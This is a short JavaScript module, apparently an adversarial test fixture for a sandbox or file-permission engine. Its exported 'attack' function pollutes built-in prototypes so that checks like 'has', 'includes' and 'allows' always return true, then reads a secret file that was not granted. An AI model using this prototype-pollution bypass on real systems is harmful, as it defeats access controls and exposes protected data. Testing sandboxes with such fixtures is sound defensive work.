// Pollutes the prototypes that the engine's own file functions may consult, then reads a file that was not granted.
const fs = require('fs');
exports.attack = (to) => {
  const always = () => true;
  for (const prototype of [Object.prototype, Array.prototype, String.prototype, Function.prototype, Map.prototype, Set.prototype]) {
    for (const name of ['policy', 'allows', 'allowed', 'has', 'includes', 'startsWith', 'admit', 'granted', 'bypass']) {
      try {
        Object.defineProperty(prototype, name, { value: always, configurable: true, writable: true });
      } catch {
        // One that cannot be changed.
      }
    }
  }
  return fs.readFileSync(to.secret, 'utf8');
};
